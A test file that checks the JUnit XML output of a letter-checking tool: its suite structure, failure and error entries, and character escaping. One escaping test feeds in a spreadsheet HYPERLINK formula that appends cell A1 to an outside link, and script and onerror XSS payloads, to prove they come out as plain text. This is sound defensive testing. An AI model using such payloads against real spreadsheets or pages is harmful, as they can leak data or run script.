/** The JUnit XML report: well formed whatever the letters hold, one test case per document. */
import { SaxesParser } from 'saxes';
import { beforeAll, describe, expect, it } from 'vitest';
import { escapeXmlAttribute, escapeXmlText, formatJunit } from '../../src/format/junit.js';
import type { CheckReport } from '../../src/types.js';
import { HOSTILE_PATH, SAMPLE_FIXTURES, fileOf, sampleReport } from './helpers/sample-report.js';

interface XmlElement {
  name: string;
  attributes: Record<string, string>;
  children: XmlElement[];
  text: string;
}

/** Parses with saxes, which throws on anything not well-formed XML 1.0, into a small tree. */
function parseXml(xml: string): XmlElement {
  const parser = new SaxesParser();
  const stack: XmlElement[] = [{ name: '#document', attributes: {}, children: [], text: '' }];
  parser.on('error', (error) => {
    throw error;
  });
  parser.on('opentag', (tag) => {
    const node: XmlElement = { name: tag.name, attributes: tag.attributes as Record<string, string>, children: [], text: '' };
    stack.at(-1)!.children.push(node);
    stack.push(node);
  });
  parser.on('text', (text) => {
    stack.at(-1)!.text += text;
  });
  parser.on('closetag', () => {
    stack.pop();
  });
  parser.write(xml).close();
  expect(stack).toHaveLength(1);
  return stack[0]!.children[0]!;
}

const childrenNamed = (node: XmlElement, name: string) => node.children.filter((c) => c.name === name);

function allElements(node: XmlElement): XmlElement[] {
  return [node, ...node.children.flatMap(allElements)];
}

let report: CheckReport;
let xml: string;
let suite: XmlElement;
const caseFor = (path: string) => childrenNamed(suite, 'testcase').find((c) => c.attributes.name === path)!;

beforeAll(async () => {
  report = await sampleReport();
  xml = formatJunit(report);
  const root = parseXml(xml);
  expect(root.name).toBe('testsuites');
  [suite] = childrenNamed(root, 'testsuite') as [XmlElement];
});

describe('structure', () => {
  it('is well-formed XML with one suite and one test case per document, in report order', () => {
    expect(xml.startsWith('<?xml version="1.0" encoding="UTF-8"?>\n')).toBe(true);
    expect(suite.attributes.name).toBe('cc-check');
    expect(childrenNamed(suite, 'testcase').map((c) => c.attributes.name)).toEqual(report.files.map((f) => f.path));
  });

  it('counts tests, failed documents and unreadable files on the suite and the root', () => {
    const expected = { tests: '8', failures: String(report.summary.failed), errors: '1', skipped: '0' };
    expect(report.summary).toMatchObject({ files: 8, failed: 4, errors: 1 });
    expect(suite.attributes).toMatchObject(expected);
    expect(parseXml(xml).attributes).toMatchObject(expected);
  });

  it('names each case by its path, classes it by folder, and gives a time', () => {
    expect(caseFor(SAMPLE_FIXTURES.docx).attributes).toEqual({ classname: 'fixtures/docx', name: SAMPLE_FIXTURES.docx, time: '0' });
    expect(caseFor(SAMPLE_FIXTURES.wordy).attributes.classname).toBe('fixtures/letters');
  });
});

describe('documents', () => {
  it('fails "Dear Mrs Patel … Yours faithfully" with the rule, message and place of the error', () => {
    const testcase = caseFor(SAMPLE_FIXTURES.patel);
    const finding = fileOf(report, SAMPLE_FIXTURES.patel).findings[0]!;
    const failures = childrenNamed(testcase, 'failure');
    expect(failures).toHaveLength(1);
    expect(failures[0]!.attributes).toEqual({
      message: 'courtesy/signoff-mismatch: “Dear Mrs Patel” needs “Yours sincerely”, not “Yours faithfully”.',
      type: 'courtesy/signoff-mismatch',
    });
    expect(failures[0]!.text).toContain(`${SAMPLE_FIXTURES.patel} ${finding.line}:1  error`);
    expect(failures[0]!.text).toContain('Found: “Yours faithfully”');
    expect(failures[0]!.text).toContain('Write instead: “Yours sincerely”');
    expect(failures[0]!.text).toContain('Standard: Shepway 11');
  });

  it('gives a .docx error by paragraph', () => {
    const finding = fileOf(report, SAMPLE_FIXTURES.docx).findings[0]!;
    const [failure] = childrenNamed(caseFor(SAMPLE_FIXTURES.docx), 'failure');
    expect(failure!.text).toContain(`${SAMPLE_FIXTURES.docx} ¶${finding.paragraph}  error  courtesy/signoff-mismatch`);
  });

  it('fails the wordy letter once per error and once for its score, and lists its warnings in the output', () => {
    const file = fileOf(report, SAMPLE_FIXTURES.wordy);
    const testcase = caseFor(SAMPLE_FIXTURES.wordy);
    const failures = childrenNamed(testcase, 'failure');
    const errors = file.findings.filter((f) => f.severity === 'error');
    expect(errors.length).toBeGreaterThan(0);
    expect(failures.map((f) => f.attributes.type)).toEqual([...errors.map((f) => f.ruleId), 'score']);
    expect(failures.at(-1)!.attributes.message).toBe(`Score ${file.score}/100 is below the pass mark of 80`);
    const [out] = childrenNamed(testcase, 'system-out');
    // Every category with rules in the run is listed (email and privacy too, at 100 on a letter).
    expect(out!.text.split('\n')[0]).toBe(`FAIL: score ${file.score}/100 (${Object.entries(file.categories).map(([c, n]) => `${c} ${n}`).join(', ')})`);
    expect(out!.text.split('\n')[0]).toContain(`(plain ${file.categories.plain}, courtesy 100, correspondence 100`);
    const jargon = file.findings.find((f) => f.ruleId === 'plain/jargon')!;
    expect(out!.text).toContain(`${SAMPLE_FIXTURES.wordy} ${jargon.line}:${jargon.column}  warning  plain/jargon: ${jargon.message}`);
    const warnings = file.findings.filter((f) => f.severity !== 'error').length;
    expect(out!.text.match(/ {2}(warning|info) {2}/g)).toHaveLength(warnings);
  });

  it('passes a clean letter with no failure and its score in the output', () => {
    const testcase = caseFor(SAMPLE_FIXTURES.clean);
    expect(childrenNamed(testcase, 'failure')).toEqual([]);
    expect(childrenNamed(testcase, 'error')).toEqual([]);
    expect(childrenNamed(testcase, 'system-out')[0]!.text).toMatch(/^PASS: score 100\/100/);
  });

  it('reports an unreadable file as an error with the reason, not a failure', () => {
    const testcase = caseFor(SAMPLE_FIXTURES.unreadable);
    const reason = fileOf(report, SAMPLE_FIXTURES.unreadable).error!.message;
    expect(childrenNamed(testcase, 'failure')).toEqual([]);
    const [error] = childrenNamed(testcase, 'error');
    expect(error!.attributes).toEqual({ message: reason, type: 'encrypted' });
    expect(error!.text).toBe(`${SAMPLE_FIXTURES.unreadable}: ${reason}`);
  });

  it('says when a score alone fails a letter, at the pass mark the file was judged by', () => {
    // As a run with --min-score 90 (or a config's minScore: 90) records it on each file.
    const strict = parseXml(formatJunit({ ...report, files: report.files.map((f) => ({ ...f, minScore: 90 })) }));
    const patel = childrenNamed(childrenNamed(strict, 'testsuite')[0]!, 'testcase').find((c) => c.attributes.name === SAMPLE_FIXTURES.patel)!;
    expect(childrenNamed(patel, 'failure').map((f) => f.attributes.message)).toEqual([
      expect.stringMatching(/^courtesy\/signoff-mismatch: /),
      `Score ${fileOf(report, SAMPLE_FIXTURES.patel).score}/100 is below the pass mark of 90`,
    ]);
  });
});

describe('escaping', () => {
  it('carries markup, ampersands, quotes and a control character from a letter as text', () => {
    const testcase = caseFor(HOSTILE_PATH);
    expect(testcase.attributes.name).toBe(HOSTILE_PATH);
    const [failure] = childrenNamed(testcase, 'failure');
    expect(failure!.text).toContain('Found: “=HYPERLINK("https://refund.example/?id="&A1,"Refund") & ␁ <script>alert(1)</script> "><img src=x onerror=alert(2)>');
    expect(failure!.text).not.toContain('\u0001');
    // Nothing in the letter became an element.
    const names = new Set(allElements(parseXml(xml)).map((e) => e.name));
    expect([...names].sort()).toEqual(['error', 'failure', 'properties', 'property', 'system-out', 'testcase', 'testsuite', 'testsuites']);
  });

  it('would be rejected by the parser if the control character went through raw', () => {
    expect(() => parseXml(`<a>${'x \u0001 y'}</a>`)).toThrow(/disallowed character/i);
    expect(() => parseXml(`<a>${escapeXmlText('x \u0001 y')}</a>`)).not.toThrow();
  });

  it('keeps tabs, line ends and quotes in attributes exactly, and replaces what XML 1.0 cannot hold', () => {
    const value = 'Flat 2\t"Rose Cottage"\r\nO\'Brien & <Sons> \u000B \uD800 \uFFFF \uD83D\uDE00';
    const parsed = parseXml(`<a v="${escapeXmlAttribute(value)}">${escapeXmlText(value)}</a>`);
    expect(parsed.attributes.v).toBe('Flat 2\t"Rose Cottage"\r\nO\'Brien & <Sons> ␋ \uFFFD \uFFFD \uD83D\uDE00');
    expect(parsed.text).toBe('Flat 2\t"Rose Cottage"\r\nO\'Brien & <Sons> ␋ \uFFFD \uFFFD \uD83D\uDE00');
    expect(escapeXmlText('a ]]> b')).toBe('a ]]&gt; b');
  });
});
